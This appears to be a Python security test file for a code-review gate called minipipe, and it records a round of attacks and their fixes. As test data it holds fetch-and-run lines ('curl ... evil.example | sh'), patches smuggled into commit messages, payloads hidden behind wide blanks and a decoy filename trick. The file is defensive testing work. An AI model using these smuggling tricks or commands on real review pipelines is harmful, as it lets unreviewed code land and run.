"""The review gate, attacked a fourteenth time (a short round), with real git and no
root daemon: the round 13 fixes (ae418ae) and `diff --name-only [-z]` (b651a1b):
render.commit_lines' "    | " gutter, workspace._commits taking git's own fields by
their place, _Digest merging two patches only as a type change, the monitor's
blank_run(), and reads.quoted_path.

Same cast as the system round files, played by the test user: alice's run makes the
commits, dave reads them (`minipipe diff`, the monitor) and lands them. Each test
asserts the SECURE outcome. The ones marked FOUND fail against b651a1b (that is the
finding, kept as a strict xfail); the ones marked HELD document an attack that was
refused.

Held: `minipipe diff` piped, with a commit whose message and headers hold a patch in
every format GNU patch guesses (unified, context, normal, ed, git extended headers,
indented by blanks or `X`), a merge, a cut note and older commits not recorded:
`patch -p1` and `git apply` take only the real diff (the only lines at the left edge
are minipipe's own `commit `/`Merge:`/`Author:`/`Commit:`/`Header:`/`(and ...` lines,
none of which a patch program reads as a header or a command; everything alice wrote
follows "| "). A type change beside a rename of the changed file's old content
(`T b.txt`, `A R` to name-status, three patches to the diff) keeps each file's counts.
Read and not pursued: _commits (fsck's order is what index-pack --strict checks at
landing; a second `author` is refused there, and is shown as a header here); git am
(mailsplit takes the output as one bare mail with no author: it refuses it);
quoted_path's escapes (git's cq_lookup: the same set, DEL as \\177).

Found: the monitor's blank collapse counts characters, not cells: 79 IDEOGRAPHIC
SPACEs (two cells each) are 158 blank cells, no run of 80 characters, and push an
added line's tail off a 120-column screen; and `diff --name-only -z` promises names
"as they are", but a name that is not UTF-8 was recorded as text with `\\xNN`
escapes (workspace._text), so -z writes another name, one alice can create as a
decoy, and both files are listed under one name.

Fixed since: a run of blanks is collapsed by its width in cells (80), from 40
characters; a name that is not UTF-8 is marked `cut` like one too long to keep
(the stat says "[name not exact: see the diff]", the diff names it exactly with
git's quoting, `--name-only` skips it and exits 1).
"""

# ruff: noqa: F811  (the repos and reviewing fixtures, imported)
from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from rich.cells import cell_len

from minipipe_svc.monitor.diff import ADDED, DiffDocument, Search
from minipipe_svc.render import commit_lines

from .conftest import Instance, as_user
from .test_review import STEP_AUTHOR, make_repo, reviewing, sh  # noqa: F401  (a fixture)
from .test_workspace import Repos, _run_changes_on, repos  # noqa: F401  (a fixture)

# ---------------------------------------------------------------- what `minipipe diff` feeds

# Every format GNU patch guesses, each changing a.txt or creating evil.sh.
SMUGGLED = """\
Tidy a.txt

diff --git a/evil.sh b/evil.sh
new file mode 100755
--- /dev/null
+++ b/evil.sh
@@ -0,0 +1 @@
+curl -s https://evil.example/x | sh
*** a/a.txt
--- b/a.txt
***************
*** 1 ****
! one
--- 1 ----
! pwned
Index: a.txt
1c1
< one
---
> pwned
1c
pwned
.
XXXX--- a/a.txt
XXXX+++ b/a.txt
XXXX@@ -1 +1 @@
XXXX-one
XXXX+pwned
\t--- a/a.txt
\t+++ b/a.txt
\t@@ -3 +3 @@
\t-three
\t+pwned"""

REAL_DIFF = """\
diff --git a/a.txt b/a.txt
index 0000000000000000000000000000000000000001..0000000000000000000000000000000000000002 100644
--- a/a.txt
+++ b/a.txt
@@ -1,3 +1,3 @@
 one
-two
+TWO
 three
"""


def test_no_line_alice_writes_is_read_as_a_patch_by_patch_or_git_apply(
        tmp_path: Path) -> None:
    """HELD. A commit whose message, headers (first lines and continuation lines) and
    identities hold patches in every format GNU patch guesses, plus a merge, a cut
    note and older commits not recorded: `minipipe diff`'s text (commit_lines, then
    the diff) given to `patch -p1` and to `git apply` changes a.txt as the diff says
    and nothing else."""
    commit = {
        "sha": "a" * 40, "parents": ["b" * 40, "c" * 40],
        "author": "*** a/a.txt <1c1@example.org>", "author_date": "1a2",
        "committer": "--- b/a.txt <x@example.org>", "committer_date": "@@ -1 +1 @@",
        "headers": ["diff --git a/evil.sh b/evil.sh",
                    "x-note " + SMUGGLED.replace("\n", "\n ")],
        "message": SMUGGLED, "cut": ["message", "headers"]}
    changes = {"commits": [commit], "commit_count": 3}
    shown = "\n".join(commit_lines(changes)) + "\n" + REAL_DIFF
    assert "\n    | *** a/a.txt\n" in shown and "pwned" in shown
    for tool in (["patch", "-p1", "--batch", "--force"], ["git", "apply", "-v"]):
        tree = tmp_path / tool[0]
        tree.mkdir()
        (tree / "a.txt").write_text("one\ntwo\nthree\n")
        if tool[0] == "git":
            subprocess.run(["git", "init", "-q", str(tree)], check=True)
        result = subprocess.run(tool, input=shown, cwd=tree, capture_output=True,
                                text=True, timeout=60)
        assert result.returncode == 0, (tool, result.stdout, result.stderr)
        assert (tree / "a.txt").read_text() == "one\nTWO\nthree\n", (tool, result.stdout)
        assert sorted(p.name for p in tree.iterdir() if p.name != ".git") == ["a.txt"], (
            tool, result.stdout, result.stderr)


# ---------------------------------------------------------------- counts per file

def test_a_type_change_beside_a_rename_of_its_old_content_keeps_the_counts(
        repos: Repos) -> None:
    """HELD. b.txt becomes a link and its content moves to R (-M sees no rename: the
    deletion half of a type change is no rename source): name-status says
    `T b.txt`, `A R`; the diff has three patches (b.txt deleted, b.txt created, R
    created). The deletion and the creation of b.txt merge into one count, and R
    keeps its own, then zz.sh its own."""
    repo = repos.make()
    worktree, base, head = _run_changes_on(repos, repo, 1, """
        git mv b.txt R && ln -s a.txt b.txt && git add b.txt
        printf '#!/bin/sh\\ncurl -s https://evil.example/x | sh\\n' > zz.sh
    """)
    lines = len(repos.sh(f"git show {base}:b.txt", cwd=worktree).splitlines())
    changes, _ = repos.git.changes(str(worktree), base, head)
    by_path = {f["path"]: (f["status"], f["insertions"], f["deletions"])
               for f in changes["files"]}
    assert by_path == {"b.txt": ("type-changed", 1, lines), "R": ("added", lines, 0),
                       "zz.sh": ("added", 2, 0)}, by_path
    assert changes["files_changed"] == len(changes["files"]) == 3
    assert not changes["files_truncated"]


# ---------------------------------------------------------------- the monitor

def test_wide_blanks_cannot_push_an_added_line_off_the_monitor() -> None:
    """FOUND, FIXED (medium-low, as rounds 11 and 13: an added line's code is off the
    monitor's diff screen, with no marker; `minipipe diff` in less wraps it).

    blank_run() collapses a run of BLANK_RUN_CHARS (80) *characters* that show
    nothing. U+3000 IDEOGRAPHIC SPACE is one character and two cells (rich's
    cell_len, and every terminal's wcwidth): 79 of them are 158 blank cells, and
    the run is one character short. A 120-column screen shows `+v2` and blanks; the
    payload starts at cell 161. (With a zero-width mark after each, the run is 158
    characters and is collapsed: the attack is the plain run of 79.) The same in an
    author's name pushes the `<e-mail>` off the `Author:` line.

    Steps: alice's step writes `v2` + U+3000 * 79 + `; curl evil.example | sh` into
    VERSION; dave opens the run's diff on the monitor.

    Fix (monitor/diff.py blank_run / DiffDocument.add): measure a run in cells
    (cell_len of the match, or count the East Asian wide members twice) and collapse
    it from 40 cells, say; or make the pattern's threshold 40 characters (no blank is
    wider than two cells)."""
    document = DiffDocument()
    document.add("+v2" + "\u3000" * 79 + "; curl evil.example | sh", ADDED)
    shown = document.lines[0]
    at = shown.index("; curl")
    assert cell_len(shown[:at]) < 120 or "blanks]" in shown[:at], (
        f"the tail starts at cell {cell_len(shown[:at])}")
    assert Search(document, "curl").hits == [0]


# ---------------------------------------------------------------- diff --name-only -z

NOT_UTF8 = """
name = "names"
review = true
[workspace]
repo = "{repo}"
ref = "main"
""" + STEP_AUTHOR + """[[steps]]
id = "names"
run = '''
set -e
printf '#!/bin/sh\\ncurl -s https://evil.example/x | sh\\n' > "$(printf 'run\\377.sh')"
printf '#!/bin/sh\\necho hello\\n' > 'run\\xff.sh'
'''
"""


def test_name_only_z_gives_the_names_that_land(reviewing: Instance) -> None:
    """FOUND, FIXED (low-medium: a script that acts on the names reads another file than the
    one that lands; the reviewer's list names two files the same).

    b651a1b: `diff --name-only -z` gives "each name as it is" (os.fsencode of the
    recorded path). The recorded path is text made by workspace._text, which
    decodes git's bytes with `backslashreplace`: the name `run<0xFF>.sh` is recorded
    as the eight characters `run\\xff.sh`, which is also a valid name, one alice can
    create beside it. -z then writes `run\\xff.sh` twice (the decoy's name, twice),
    and --name-only lists `"run\\\\xff.sh"` twice (quoted as a name with a
    backslash, which the real one does not have). The stat and monitor show the
    same name twice too.

    Steps: alice's step creates `run<0xFF>.sh` (`curl ... | sh`) and the decoy
    `run\\xff.sh` (`echo hello`). dave's check, `minipipe diff --name-only -z RUN |
    xargs -0 shellcheck` (or grep, or a linter), reads the decoy twice; the real
    script lands unread by it.

    Fixed as the second suggestion, without --unread-ok (the diff names the file
    exactly): the name is marked cut. Suggested: keep paths losslessly (decode with
    `surrogateescape`, store them so, and os.fsencode them back for -z; quoted_path
    and printable then escape a lone surrogate as `\\377`, git's way), or refuse a
    change whose names are not UTF-8 (mark it cut, so approving needs --unread-ok)."""
    instance = reviewing
    repo = make_repo(instance)
    run_id = instance.submit(NOT_UTF8.format(repo=repo), name="names")
    run = instance.wait_state(run_id, "AWAITING_REVIEW", "FAILED")
    assert run["state"] == "AWAITING_REVIEW", (run["reason"], run["steps"])
    result = subprocess.run(
        [sys.executable, "-m", "minipipe_svc", "--config", str(instance.config_path),
         "diff", str(run_id), "--name-only", "-z"],
        capture_output=True, timeout=120, **as_user(instance.user, instance.root))
    # Every name given is one that lands, once; the one minipipe could not keep
    # exactly is left out, and the script is told the list is not all of them.
    names = result.stdout.split(b"\0")[:-1]
    assert names == [b"run\\xff.sh"], names
    assert result.returncode == 1 and b"not all of them" in result.stderr
    stat = instance.cli("diff", str(run_id), "--stat").stdout
    assert "[name not exact: see the diff]" in stat
    assert '"b/run\\377.sh"' in instance.cli("diff", str(run_id)).stdout  # git's quoting
